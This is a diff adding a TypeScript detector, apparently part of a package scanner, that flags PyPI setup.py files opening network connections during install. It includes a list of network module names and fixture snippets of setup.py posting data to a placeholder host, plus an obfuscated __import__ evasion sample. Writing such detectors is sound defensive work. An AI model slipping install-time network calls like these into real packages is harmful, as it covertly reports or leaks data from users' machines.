@@ -1,0 +1,77 @@
+import { type Deed, deedsOf } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import { isSetup } from "./_setup.ts";
+import { codeWith, sight } from "./_sight.ts";
+
+const NETWORK = [
+  "urlopen",
+  "urlretrieve",
+  "requests",
+  "httpx",
+  "aiohttp",
+  "urllib",
+  "socket",
+  "http.client",
+  "smtplib",
+  "ftplib",
+  "wget",
+  "gethostbyname",
+] as const;
+
+export const setupUsesNetwork: Detector = {
+  id: "setup-uses-network",
+  title: "setup.py talks to a server",
+  severity: "medium",
+  ecosystems: ["pypi"],
+  points: 4.3,
+  class: "threat",
+  group: "setup-acts",
+  why: `\`setup.py\` opens a connection while the release is installed. Sending something, or looking up a constant host name, has no use
+for building and reports each installation to somebody.
+
+Some releases download a compiler, a library or test data at this point: plain downloads get few points.`,
+  literals: NETWORK,
+  *detect(tree) {
+    for (const file of codeWith(tree, NETWORK)) {
+      if (!isSetup(file)) continue;
+      for (const deed of deedsOf(file, "http", "upload", "dns", "socket", "mail")) {
+        if (deed.command !== undefined) continue;
+        yield sight(
+          file,
+          deed.offset,
+          `${deed.what} connects to ${deed.text.slice(0, 160) || "an address known only when it runs"}`,
+          {
+            phase: "install",
+            share: shareOf(deed),
+          },
+        );
+      }
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "import requests\nrequests.post('http://example.invalid/hello', json={'a': 1})\n" },
+      },
+      { ecosystem: "pypi", files: { "setup.py": "import socket\nsocket.gethostbyname('x.example.invalid')\n" } },
+    ],
+    passes: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "from setuptools import setup\nsetup(install_requires=['requests'])\n" },
+      },
+      { ecosystem: "pypi", files: { "demo/a.py": "import requests\nrequests.get(url)\n" } },
+    ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "u = __import__('urllib.request').request\nu.urlopen('http://example.invalid/')\n" },
+      },
+    ],
+  },
+};
+
+function shareOf({ act }: Deed): number {
+  return act === "http" ? 0.45 : act === "socket" ? 0.7 : 1;
+}
